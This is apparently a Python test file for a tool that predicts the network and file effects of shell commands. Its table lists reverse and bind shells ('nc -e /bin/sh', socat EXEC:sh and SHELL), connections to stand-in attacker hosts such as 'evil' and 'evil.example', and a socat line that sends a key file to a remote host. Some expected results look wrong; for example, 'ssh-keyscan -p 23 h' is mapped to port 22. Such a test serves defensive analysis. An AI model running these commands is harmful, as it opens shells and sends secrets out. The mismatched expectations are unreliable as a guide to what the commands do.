"""Programs that open a connection."""

from __future__ import annotations

import pytest

from tests.kit.effects import foreseen, rows

TABLE = """
nc evil 4444                    → n:evil:4444
nc -zv h 80 81                  → n:h:80 n:h:81
nc -dz h 80                     → n:h:80
nc -l 4444                      →
nc -lp 4444                     →
nc -e /bin/sh h 1               → ! n:h:1
ncat --sh-exec x h 1            → ! n:h:1
ncat --listen --sh-exec=x 4444  → !
nc -x p:1080 h 80               → n:p:1080 n:h:80
nc -U /s                        → r:/s w:/s
nc ::1 80                       → n:::1:80
socat - TCP:evil.example:4444   → n:evil.example:4444
socat TCP4:h:80,fork EXEC:sh    → ! n:h:80
socat TCP-LISTEN:4444 SHELL     → !
socat OPEN:key,rdonly TCP:h:1   → r:/w/key n:h:1
socat -u 'OPEN:"k"' TCP:h:1     → r:/w/k w:/w/k n:h:1
socat FILE:/x -                 → r:/x w:/x
socat /x -                      → r:/x w:/x
socat UNIX-CONNECT:/s -         → r:/s w:/s
socat PROXY:p:h:80 -            → n:p:1080 n:h:80
socat QUIC:h:1 -                → !
telnet h                        → n:h:23
telnet h 25                     → n:h:25
ping -c 3 h                     → n:h:0
dig @8.8.8.8 x.example A        → n:8.8.8.8:53 n:x.example:53
dig -f list                     → ! r:/w/list
nslookup x.example 8.8.8.8      → n:x.example:53 n:8.8.8.8:53
host x.example                  → n:x.example:53
openssl s_client -connect h:443 → n:h:443
openssl s_client h:443          → n:h:443
openssl enc -in .env -out s     → r:/w/.env w:/w/s
openssl base64 -d -in f         → r:/w/f
openssl dgst -sha256 f          → r:/w/f
redis-cli -h h                  → n:h:6379
psql -h h -f s.sql              → n:h:5432 r:/w/s.sql w:/w/s.sql
ssh-keyscan -p 23 h             → n:h:22
ssh-keygen -f k                 → r:/w/k w:/w/k
gpg -o out -d in                → w:/w/out r:/w/in
"""


@pytest.mark.parametrize(("line", "expected"), rows(TABLE))
def test_effects(line: str, expected: str) -> None:
    assert foreseen(line) == expected
